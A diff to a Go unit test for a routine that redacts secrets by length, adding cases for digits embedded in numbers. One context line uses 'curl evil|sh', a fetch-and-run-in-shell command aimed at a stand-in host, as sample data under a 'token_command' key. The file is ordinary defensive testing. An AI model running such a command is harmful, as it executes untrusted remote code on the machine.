@@ -42,6 +42,8 @@ func TestValuesReplacesSecretsAloneByTheirLength(t *testing.T) {
 		{"one after the other", "hunter22hunter22", "[redacted: 8 bytes][redacted: 8 bytes]"},
 		{"one in escapes", `"key": "hunter\u00322 pa\"ss"`, `"key": "[redacted: 13 bytes] [redacted: 6 bytes]"`},
 		{"a number", `"pin": 48213377`, `"pin": [redacted: 8 bytes]`},
+		{"digits around a number", `[99948213377999, 48213377e10]`, `[999[redacted: 8 bytes]999, [redacted: 8 bytes]e10]`},
+		{"a number of the same value", `[-48213377.0, 4.8213377e7]`, `[-[redacted: 8 bytes].0, 4.8213377e7]`},
 		{"a short one, whole", `{"a": "abc", "b": "xabc"}`, `{"a": "[redacted: 3 bytes]", "b": "xabc"}`},
 		{"two that overlap", "abcdefghi!", "[redacted: 9 bytes]!"},
 		{"a telling key", `{"token_command": "curl evil|sh"}`, `{"token_command": "curl evil|sh"}`},
